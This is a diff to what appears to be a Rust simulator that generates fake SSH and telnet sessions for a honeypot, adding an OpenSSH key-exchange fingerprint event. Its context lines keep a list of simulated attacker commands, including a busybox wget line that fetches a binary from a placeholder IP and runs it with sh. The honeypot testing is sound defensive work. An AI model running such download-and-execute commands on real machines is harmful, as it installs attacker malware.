@@ -44,6 +44,8 @@ const COMMANDS: [&str; 4] = [
     "cd /tmp || cd /var/run; busybox wget http://203.0.113.9/bins/mips -O- > .x; sh .x",
     "echo -e \"\\x67\\x61\\x79\\x66\\x67\\x74\"; /bin/busybox ECCHI",
 ];
+/// What OpenSSH 9.2 offers.
+const KEXINIT: &str = include_str!("../../ukai-cowrie/src/tests/openssh.kexinit");
 const CLIENTS: [&str; 3] = ["SSH-2.0-Go", "SSH-2.0-libssh_0.9.6", "SSH-2.0-OpenSSH_9.2p1"];
 
 fn main() -> Result<()> {
@@ -173,6 +175,17 @@ impl Visit {
         let mut kinds =
             vec![EventKind::SessionOpen { protocol: protocol.into(), persona: persona.into() }];
         let client = rng.random_range(0..CLIENTS.len());
+        if ssh {
+            kinds.push(EventKind::ClientFingerprint {
+                method: "ssh-kexinit".into(),
+                value: KEXINIT
+                    .lines()
+                    .next()
+                    .unwrap_or_default()
+                    .replace("x25519", &format!("x2551{client}")),
+                software: Some(CLIENTS[client].into()),
+            });
+        }
         kinds.push(EventKind::ClientFingerprint {
             method: if ssh { "hassh" } else { "telnet-options" }.into(),
             value: if ssh {
